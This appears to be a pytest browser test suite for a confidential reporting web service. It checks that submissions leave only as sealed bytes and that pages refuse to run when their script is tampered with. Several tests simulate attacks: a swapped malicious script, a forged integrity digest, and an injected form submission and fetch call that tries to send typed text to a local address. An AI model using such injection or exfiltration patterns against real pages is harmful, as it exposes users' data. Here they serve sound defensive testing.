"""With scripts on nothing but sealed bytes leaves; with the script gone, changed or broken, nothing does."""

import pytest

from meyasubako.service.reporter.sealing_pages import asset
from tests.browser import browsers, page_walk, walk
from tests.browser.recorder import recorded

STORY = "the-canary-of-the-story-sings-at-night"
NAME = "canary-photo-7731.jpg"
CONTENT = b"canary-content-" * 30_000
FILE = {"name": NAME, "mimeType": "image/jpeg", "buffer": CONTENT}
FIELDS = "textarea:visible, input:visible, select:visible, [contenteditable]:visible"
PAGES = ["/en/form", "/en/replies"]


@pytest.fixture
def line(server):
    with recorded(server.base) as line:
        yield line


@pytest.fixture
def open_page(page_in, line):
    return page_in(browsers.CHROMIUM, line.base)


def canaries(line, *more):
    return [each for each in (STORY, NAME, "canary-content-", *more) if line.holds(each)]


def test_the_recorder_sees_what_is_sent_in_the_clear(open_page, line):
    open_page.goto("/en/questions")
    open_page.click(".moves button.go >> nth=0")
    open_page.fill("#text", STORY)
    with open_page.expect_navigation():
        open_page.click(".moves button.go >> nth=0")
    assert canaries(line) == [STORY]


def test_a_report_and_a_message_leave_as_sealed_bytes_alone(open_page, line):
    receipt = page_walk.report(open_page, "en", excluded=["Sato Keiko"], text=STORY, files=[FILE])
    page_walk.enter(open_page, "en", receipt)
    page_walk.say(open_page, STORY + " again", files=[FILE])
    assert any(method.startswith("POST /api/events") for method in line.methods())
    assert any(method.startswith("PATCH /api/uploads/") for method in line.methods())
    assert canaries(line, receipt, receipt.replace(" ", ""), receipt[:9]) == []
    assert not any(receipt[:4] in method for method in line.methods())


@pytest.mark.parametrize("address", PAGES)
@pytest.mark.parametrize("how", ["blocked", "swapped", "empty"])
def test_without_its_own_script_a_page_has_nothing_to_write_in(open_page, line, address, how):
    def answer(route):
        evil = "document.body.innerHTML = '<form action=/><input name=x autofocus></form>'"
        if how == "blocked":
            route.abort()
        else:
            route.fulfill(content_type="text/javascript", body=evil if how == "swapped" else "")

    open_page.route("**/page.js", answer)
    open_page.goto(address)
    assert "This page did not start" in open_page.inner_text("main")
    assert open_page.locator(FIELDS).count() == 0
    assert open_page.locator("form").count() == 0
    assert all(method.startswith("GET ") for method in line.methods())


@pytest.mark.parametrize("address", PAGES)
def test_a_page_whose_script_and_its_digest_were_changed_runs_nothing(open_page, address):
    def answer(route):
        got = route.fetch()
        body = got.text().replace(asset("page.js").integrity, "sha384-" + "A" * 64)
        route.fulfill(response=got, body=body)

    open_page.route(f"**{address}", answer)
    open_page.goto(address)
    assert open_page.locator(FIELDS).count() == 0


BROKEN = {
    "no streams": "delete window.ReadableStream",
    "no randomness": "Crypto.prototype.getRandomValues = () => { throw new Error('none') }",
    "no hashing": "DataView.prototype.setUint32 = () => { throw new Error('none') }",
    "no text": "window.TextEncoder = undefined",
    "no files": "Blob.prototype.slice = () => { throw new Error('none') }",
    "no requests": "window.fetch = () => { throw new Error('none') }",
}


@pytest.mark.parametrize("how", BROKEN)
def test_a_script_that_breaks_on_its_way_sends_nothing_that_was_typed(open_page, line, how):
    open_page.add_init_script(BROKEN[how])
    open_page.goto("/en/form")
    open_page.locator("#asleep:visible, [data-step=readers]:visible").first.wait_for()
    if open_page.locator("#asleep").is_hidden():
        page_walk.write(open_page, "en", excluded=["Sato Keiko"], text=STORY)
        open_page.evaluate("() => { document.querySelectorAll('details').forEach(each => each.open = true) }")
        page_walk.go(open_page, "review", "send")
        page_walk.until(
            "an end", lambda: open_page.locator(".summary:visible, [data-step=receipt]:visible").count() > 0
        )
    assert canaries(line) == []
    assert not any("/questions" in method for method in line.methods())


@pytest.mark.parametrize("wrong", ["people", "fingerprint", "nothing"])
def test_a_list_of_readers_that_does_not_verify_ends_it_before_anything_is_written(open_page, wrong):
    def answer(route):
        got = route.fetch()
        said = got.json()
        if wrong == "people":
            said["people"][0]["recipient"] = said["people"][1]["recipient"]
        if wrong == "fingerprint":
            said["founding"] = said["marker"]
        route.fulfill(response=got, json=said) if wrong != "nothing" else route.fulfill(status=500, body="?")

    open_page.route("**/api/readers", answer)
    open_page.goto("/en/form")
    open_page.locator("#asleep p >> nth=1").wait_for()
    assert open_page.locator(FIELDS).count() == 0


def test_no_form_can_be_sent_from_the_page_by_whatever_got_into_it(open_page, line):
    open_page.goto("/en/form")
    page_walk.at(open_page, "readers")
    open_page.evaluate(
        """canary => { const form = document.createElement('form'); form.method = 'post';
        form.action = '/en/questions'; const input = document.createElement('input'); input.name = 'text';
        input.value = canary;
        form.append(input); document.body.append(form); form.submit() }""",
        STORY,
    )
    open_page.evaluate("canary => fetch('http://127.0.0.1:9/' + canary).catch(() => 0)", STORY)
    assert open_page.url.endswith("/en/form")
    assert canaries(line) == []


def test_the_page_goes_on_where_a_broken_connection_stopped_it(open_page, line):
    open_page.goto("/en/form")
    big = {"name": NAME, "mimeType": "image/jpeg", "buffer": CONTENT * 10}
    page_walk.write(open_page, "en", excluded=["Sato Keiko"], text=STORY, files=[big])
    line.refused = 6
    line.cut_after = len(line.sent) + 2_500_000
    page_walk.go(open_page, "review", "send")
    page_walk.at(open_page, "receipt")
    assert (line.cut_after, line.refused) == (0, 0)
    assert any(method.startswith("HEAD /api/uploads/") for method in line.methods())
    sent = sum(method.startswith("POST /api/uploads") for method in line.methods())
    assert sent == 1
    assert canaries(line) == []


def test_what_arrived_though_its_answer_was_lost_arrives_once(open_page):
    def lost(route):
        route.fetch()
        route.abort()

    receipt = page_walk.report(open_page, "en", excluded=["Sato Keiko"], text=STORY)
    page_walk.enter(open_page, "en", receipt)
    open_page.route("**/api/events", lost, times=4)
    open_page.fill("#text", "Only once.")
    page_walk.go(open_page, "mailbox", "say")
    open_page.locator(".summary:focus").wait_for()
    page_walk.say(open_page, "Only once.")
    assert open_page.locator(".messages .told").all_inner_texts() == ["Only once."]

    open_page.goto("/en/form")
    page_walk.write(open_page, "en", excluded=["Sato Keiko"], text=STORY)
    open_page.route("**/api/events", lost, times=4)
    page_walk.go(open_page, "review", "send")
    open_page.locator(".summary:focus").wait_for()
    page_walk.go(open_page, "review", "send")
    page_walk.at(open_page, "receipt")
    assert "meyasubako/promise/v1" in open_page.locator("[data-promise]").text_content()
    page_walk.enter(open_page, "en", walk.shown(open_page, ".code"))


def test_leaving_takes_away_what_was_typed_and_what_was_sent_ahead(open_page):
    open_page.goto("/en/form")
    page_walk.write(open_page, "en", excluded=["Sato Keiko"], text=STORY)
    held_up = []
    open_page.on("dialog", lambda dialog: (held_up.append(dialog.type), dialog.accept()))
    open_page.click("#leave")
    open_page.wait_for_url("**/en/calendar")
    assert open_page.title() == "Calendar"
    assert held_up == []
    assert STORY not in open_page.content()
    assert open_page.evaluate("() => localStorage.length + sessionStorage.length") == 0
